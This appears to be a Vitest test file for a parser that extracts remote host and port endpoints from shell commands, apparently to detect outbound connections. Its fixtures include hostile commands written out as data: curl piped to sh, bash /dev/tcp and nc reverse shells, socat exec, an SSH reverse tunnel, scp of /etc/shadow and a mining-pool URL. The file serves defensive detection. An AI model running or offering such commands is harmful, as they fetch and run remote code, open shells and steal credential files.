import { expect, test } from 'vitest';
import { endsIn } from './commands.ts';

test.each([
  ['curl -fsSL http://203.0.113.9/x.sh | sh', ['203.0.113.9:0']],
  ['wget -q https://drop.example.org:8443/a -O /tmp/a', ['drop.example.org:8443']],
  ['curl -o - http://[2001:db8::9]:8080/x', ['2001:db8::9:8080']],
  ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', ['203.0.113.9:4444']],
  ['nc 203.0.113.9 4444 -e /bin/sh', ['203.0.113.9:4444']],
  ['/usr/bin/ssh -fNR 2222:localhost:22 tun@203.0.113.7', ['203.0.113.7:0']],
  ['scp /etc/shadow tun@203.0.113.7:/tmp', ['203.0.113.7:0']],
  ['socat TCP:203.0.113.9:443 EXEC:sh', ['203.0.113.9:443']],
  ['curl 203.0.113.9:8000/x', ['203.0.113.9:8000']],
  ['./m -o stratum+tcp://pool.example.net:3333', ['pool.example.net:3333']],
  ['curl http://10.0.0.5/health; curl http://127.0.0.1:9/', []],
  ['curl http://gw.lan/', []],
  ['vi notes-1.2.3.4.txt', []],
  ['apt-get install libc6=2.36.0.1', []],
])('%s', (command, ends) => {
  expect(endsIn(command).map(({ to, port }) => `${to}:${port}`)).toEqual(ends);
});
